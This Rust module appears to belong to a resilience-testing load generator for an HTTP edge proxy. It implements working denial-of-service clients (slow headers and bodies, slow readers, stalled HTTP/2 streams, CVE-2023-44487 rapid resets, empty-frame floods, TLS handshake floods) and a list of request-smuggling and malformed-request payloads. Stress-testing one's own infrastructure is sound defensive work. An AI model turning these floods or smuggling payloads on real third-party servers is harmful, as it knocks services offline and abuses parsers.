//! Clients who mean harm: each way of taking something that others need, for as long as it is polled.
//!
//! None of them counts on an answer, and what the edge does to them (closes, refuses, says 400) is told apart only as far as
//! it must not happen. All memory that they take here is that of their sockets.

use std::future::Future;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use clap::ValueEnum;
use serde::Serialize;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;
use tokio::time::sleep;

use crate::generator::connection::{Broken, Destination, Stream};

/// What is done to an edge.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, ValueEnum)]
#[serde(rename_all = "kebab-case")]
pub(crate) enum Attack {
    /// Connections that asked once and are kept open.
    Idle,
    /// Headers of which a byte comes now and then.
    SlowHeaders,
    /// Bodies of which a byte comes now and then.
    SlowBodies,
    /// Many answers, of which a byte is taken now and then.
    SlowReaders,
    /// Streams of HTTP/2, as many as a connection may have, whose answers may not be sent.
    StalledStreams,
    /// Requests over HTTP/2 that are taken back at once (CVE-2023-44487).
    RapidResets,
    /// Frames of HTTP/2 that say nothing.
    EmptyFrames,
    /// Handshakes of TLS, one after the other.
    Handshakes,
    /// Answers that do not end, taken as they come but for a pause.
    EndlessAnswers,
    /// Bytes that are no request, or two in one.
    Garbage,
}

/// Whom they are after.
#[derive(Clone)]
pub(crate) struct Victim {
    pub(crate) plain: Destination,
    /// HTTP/2 in TLS.
    pub(crate) http2: Destination,
    /// A request whose answer is worth stalling.
    pub(crate) request: Arc<[u8]>,
}

/// What became of them.
#[derive(Debug, Default)]
pub(crate) struct Harm {
    /// Connections that are open now.
    pub(crate) open: AtomicU64,
    /// Connections that were made.
    pub(crate) made: AtomicU64,
    /// Requests that are none and were answered 2xx.
    pub(crate) believed: AtomicU64,
}

/// Between the bytes of those who are slow.
const DRIP: Duration = Duration::from_millis(500);

/// Before somebody who cannot connect tries again.
const PAUSE: Duration = Duration::from_millis(100);

/// Requests that a slow reader sends ahead.
const AHEAD: usize = 100;

/// What is taken at a time of an answer that does not end, and the pause after it.
const PIECE: usize = 64 << 10;
const BETWEEN_PIECES: Duration = Duration::from_millis(50);

/// How many of those who attack connect at once, so that no queue of the system's overflows.
const AT_ONCE: usize = 64;

/// Streams of a connection, as many as the edge allows.
const STREAMS: u32 = 100;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// The header of a GET for `/`, from the static table of HPACK.
const GET: &[u8] = b"\x82\x87\x84\x41\x09vms.local";

/// What is no request, or could be taken for two. None may be answered but by a refusal.
const GARBAGE: [&[u8]; 8] = [
    b"\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03",
    b"GET / HTTP/9.9\r\nHost: vms.local\r\n\r\n",
    b"GET /\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: vms.local\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: vms.local\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello",
    b"POST / HTTP/1.1\r\nHost: vms.local\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: vms.local\r\nHost: other.local\r\n\r\n",
    b"GET http://other.local/ HTTP/1.1\r\nHost: vms.local\r\n\r\n",
];

impl Attack {
    /// What it is called, for people.
    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::Idle => "idle connections",
            Self::SlowHeaders => "slow headers",
            Self::SlowBodies => "slow bodies",
            Self::SlowReaders => "slow readers",
            Self::StalledStreams => "stalled streams of HTTP/2",
            Self::RapidResets => "rapid resets of HTTP/2",
            Self::EmptyFrames => "empty frames of HTTP/2",
            Self::Handshakes => "handshakes of TLS",
            Self::EndlessAnswers => "endless answers",
            Self::Garbage => "garbage",
        }
    }

    /// So many clients attack, until this is dropped.
    pub(crate) async fn goes_on(self, victim: &Victim, clients: usize, harm: &Arc<Harm>) {
        let mut attackers = JoinSet::new();
        let connecting = Arc::new(tokio::sync::Semaphore::new(AT_ONCE));
        for _ in 0..clients {
            let (victim, harm) = (victim.clone(), Arc::clone(harm));
            let connecting = Arc::clone(&connecting);
            attackers.spawn(async move {
                loop {
                    let turn = connecting.acquire().await.expect("it is never closed");
                    let connected = self.connects(&victim).await;
                    drop(turn);
                    let mut stream = match connected {
                        Ok(stream) => stream,
                        // Whoever is sent away at the door comes again at once.
                        Err(Broken::Tls(..)) => continue,
                        Err(_) => {
                            sleep(PAUSE).await;
                            continue;
                        }
                    };
                    harm.made.fetch_add(1, Ordering::Relaxed);
                    let _open = Open::new(&harm);
                    // It ends when the edge has had enough.
                    let _ = self.attacks(&mut stream, &victim, &harm).await;
                }
            });
        }
        while attackers.join_next().await.is_some() {}
    }

    fn connects<'a>(
        self,
        victim: &'a Victim,
    ) -> impl Future<Output = Result<Box<dyn Stream>, Broken>> + 'a {
        match self {
            Self::StalledStreams | Self::RapidResets | Self::EmptyFrames | Self::Handshakes => {
                victim.http2.connect()
            }
            _ => victim.plain.connect(),
        }
    }

    async fn attacks(
        self,
        stream: &mut Box<dyn Stream>,
        victim: &Victim,
        harm: &Harm,
    ) -> std::io::Result<()> {
        match self {
            Self::Idle => {
                stream.write_all(&victim.request).await?;
                taken(stream).await
            }
            Self::SlowHeaders => {
                stream
                    .write_all(b"GET / HTTP/1.1\r\nHost: vms.local\r\nX-Slow: ")
                    .await?;
                drips(stream).await
            }
            Self::SlowBodies => {
                stream.write_all(&upload(&victim.request)).await?;
                drips(stream).await
            }
            Self::SlowReaders => {
                let ahead = victim.request.repeat(AHEAD);
                let (mut input, mut output) = tokio::io::split(stream);
                // The edge need not take them all.
                let writes = async {
                    output.write_all(&ahead).await?;
                    std::future::pending::<std::io::Result<()>>().await
                };
                let reads = async {
                    while input.read(&mut [0]).await? > 0 {
                        sleep(DRIP).await;
                    }
                    Ok(())
                };
                tokio::select! {
                    ended = writes => ended,
                    ended = reads => ended,
                }
            }
            Self::StalledStreams => {
                // SETTINGS_INITIAL_WINDOW_SIZE of 0.
                let mut frames = [PREFACE, &frame(4, 0, 0, b"\0\x04\0\0\0\0")].concat();
                let header = hpack(&victim.request);
                for number in 0..STREAMS {
                    frames.extend(frame(1, 5, 2 * number + 1, &header));
                }
                stream.write_all(&frames).await?;
                taken(stream).await
            }
            Self::RapidResets => {
                stream.write_all(PREFACE).await?;
                let mut id = 1_u32;
                floods(stream, || {
                    let frames = [frame(1, 5, id, GET), frame(3, 0, id, &8_u32.to_be_bytes())];
                    id += 2;
                    frames.concat()
                })
                .await
            }
            Self::EmptyFrames => {
                stream
                    .write_all(&[PREFACE, &frame(1, 4, 1, GET)].concat())
                    .await?;
                floods(stream, || frame(0, 0, 1, &[])).await
            }
            Self::Handshakes => Ok(()),
            Self::EndlessAnswers => {
                let request = no_cache(&victim.request);
                stream.write_all(&request).await?;
                let mut buffer = vec![0; PIECE];
                while stream.read(&mut buffer).await? > 0 {
                    sleep(BETWEEN_PIECES).await;
                }
                Ok(())
            }
            Self::Garbage => {
                let garbage = GARBAGE[fastrand::usize(..GARBAGE.len())];
                stream.write_all(garbage).await?;
                let mut answer = Vec::new();
                let read = stream.take(1 << 16).read_to_end(&mut answer).await;
                if answer.starts_with(b"HTTP/1.1 2") {
                    harm.believed.fetch_add(1, Ordering::Relaxed);
                }
                sleep(PAUSE).await;
                read.map(|_| ())
            }
        }
    }
}

/// Reads to the end of a connection.
async fn taken(stream: &mut Box<dyn Stream>) -> std::io::Result<()> {
    let mut buffer = [0; 4096];
    while stream.read(&mut buffer).await? > 0 {}
    Ok(())
}

/// Sends a byte now and then, until the edge closes the connection.
async fn drips(stream: &mut Box<dyn Stream>) -> std::io::Result<()> {
    let (mut input, mut output) = tokio::io::split(stream);
    let drips = async {
        loop {
            output.write_all(b"x").await?;
            output.flush().await?;
            sleep(DRIP).await;
        }
    };
    let mut buffer = [0; 4096];
    let reads = async {
        while input.read(&mut buffer).await? > 0 {}
        Ok(())
    };
    tokio::select! {
        ended = drips => ended,
        ended = reads => ended,
    }
}

/// Sends frames as fast as they are taken, and reads what comes, until the edge closes the connection.
async fn floods(
    stream: &mut Box<dyn Stream>,
    mut frames: impl FnMut() -> Vec<u8>,
) -> std::io::Result<()> {
    let (mut input, mut output) = tokio::io::split(stream);
    let writes = async {
        loop {
            output.write_all(&frames()).await?;
            output.flush().await?;
            // All attackers share the threads of the generator.
            tokio::task::yield_now().await;
        }
    };
    let mut buffer = [0; 4096];
    let reads = async {
        while input.read(&mut buffer).await? > 0 {}
        Ok(())
    };
    tokio::select! {
        ended = writes => ended,
        ended = reads => ended,
    }
}

/// A request that memory must not answer.
fn no_cache(request: &[u8]) -> Vec<u8> {
    let header = request.strip_suffix(b"\r\n").expect("it has no body");
    [header, b"Cache-Control: no-cache\r\n\r\n"].concat()
}

/// The header of an upload by whoever makes a request, which the VMS takes from nobody else.
fn upload(request: &[u8]) -> Vec<u8> {
    let line = request.windows(2).position(|end| end == b"\r\n");
    let fields = &request[line.expect("a request has a first line") + 2..];
    let line = b"POST /api/v1/echo HTTP/1.1\r\nContent-Length: 100000\r\n";
    [&line[..], fields].concat()
}

/// The header of a request of HTTP/1.1 as HPACK, in which nothing is indexed (RFC 7541, 6.2.2).
fn hpack(request: &[u8]) -> Vec<u8> {
    let text = std::str::from_utf8(request).expect("it is ASCII");
    let mut lines = text.lines();
    let line = lines.next().expect("a request has a first line");
    let target = line.split(' ').nth(1).expect("it has a target");
    let mut header = b"\x82\x87".to_vec();
    let mut add = |name: &str, value: &str| {
        header.push(0);
        for text in [name, value] {
            // RFC 7541, 5.1: what does not fit 7 bits goes on in further bytes.
            let mut length = text.len();
            if length < 127 {
                header.push(u8::try_from(length).expect("it is less"));
            } else {
                header.push(127);
                length -= 127;
                while length >= 128 {
                    header.push(u8::try_from(length % 128 + 128).expect("it is less"));
                    length /= 128;
                }
                header.push(u8::try_from(length).expect("it is less"));
            }
            header.extend_from_slice(text.as_bytes());
        }
    };
    add(":path", target);
    for (name, value) in lines.filter_map(|line| line.split_once(": ")) {
        match name {
            "Host" => add(":authority", value),
            name => add(&name.to_ascii_lowercase(), value),
        }
    }
    header
}

/// A frame of HTTP/2 (RFC 9113, 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len())
        .expect("it is short")
        .to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Counts a connection for as long as it is open.
struct Open<'a>(&'a Harm);

impl<'a> Open<'a> {
    fn new(harm: &'a Harm) -> Self {
        harm.open.fetch_add(1, Ordering::Relaxed);
        Self(harm)
    }
}

impl Drop for Open<'_> {
    fn drop(&mut self) {
        self.0.open.fetch_sub(1, Ordering::Relaxed);
    }
}

#[cfg(test)]
mod tests {
    use tokio::net::TcpListener;
    use tokio::time::timeout;

    use super::*;

    /// Answers whatever comes with 200, and closes.
    async fn believer() -> Destination {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let address = listener.local_addr().unwrap();
        tokio::spawn(async move {
            while let Ok((mut stream, _)) = listener.accept().await {
                stream.read_u8().await.unwrap();
                stream.write_all(b"HTTP/1.1 200 OK\r\n\r\n").await.unwrap();
            }
        });
        Destination::plain(address)
    }

    fn victim(plain: Destination) -> Victim {
        Victim {
            http2: plain.clone(),
            plain,
            request: Arc::from(*b"GET / HTTP/1.1\r\n\r\n"),
        }
    }

    #[tokio::test]
    async fn whoever_answers_what_is_no_request_is_counted() {
        let harm = Arc::new(Harm::default());
        let victim = victim(believer().await);
        let counted = async {
            while harm.believed.load(Ordering::Relaxed) == 0 {
                tokio::task::yield_now().await;
            }
        };
        tokio::select! {
            () = Attack::Garbage.goes_on(&victim, 2, &harm) => {}
            () = counted => {}
        }
        assert!(harm.made.load(Ordering::Relaxed) > 0);
    }

    #[tokio::test]
    async fn all_attackers_are_there_at_once_and_gone_with_the_attack() {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let victim = victim(Destination::plain(listener.local_addr().unwrap()));
        let harm = Arc::new(Harm::default());
        let there = async {
            let mut kept = Vec::new();
            while kept.len() < 100 || harm.open.load(Ordering::Relaxed) < 100 {
                let accepted = timeout(PAUSE, listener.accept()).await;
                kept.extend(accepted.ok().map(Result::unwrap));
            }
        };
        tokio::select! {
            () = Attack::SlowHeaders.goes_on(&victim, 100, &harm) => {}
            () = there => {}
        }
        let gone = async {
            while harm.open.load(Ordering::Relaxed) > 0 {
                tokio::task::yield_now().await;
            }
        };
        timeout(Duration::from_secs(20), gone).await.unwrap();
        assert_eq!(harm.made.load(Ordering::Relaxed), 100);
    }

    #[test]
    fn a_request_of_http_1_is_said_in_http_2() {
        let long = "x".repeat(300);
        let request = format!("GET /a HTTP/1.1\r\nHost: b\r\nX-C: {long}\r\n\r\n");
        let header = [
            b"\x82\x87\0\x05:path\x02/a\0\x0a:authority\x01b\0\x03x-c\x7f\xad\x01",
            long.as_bytes(),
        ];
        assert_eq!(hpack(request.as_bytes()), header.concat());
    }

    #[test]
    fn an_upload_is_by_whoever_asked() {
        assert_eq!(
            upload(b"GET /a HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer b\r\n\r\n"),
            b"POST /api/v1/echo HTTP/1.1\r\nContent-Length: 100000\r\nHost: a\r\nAuthorization: Bearer b\r\n\r\n"
        );
    }

    #[test]
    fn what_memory_must_not_answer_says_so() {
        let request = no_cache(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n");
        let expected = b"GET / HTTP/1.1\r\nHost: a\r\nCache-Control: no-cache\r\n\r\n";
        assert_eq!(request, expected);
    }
}
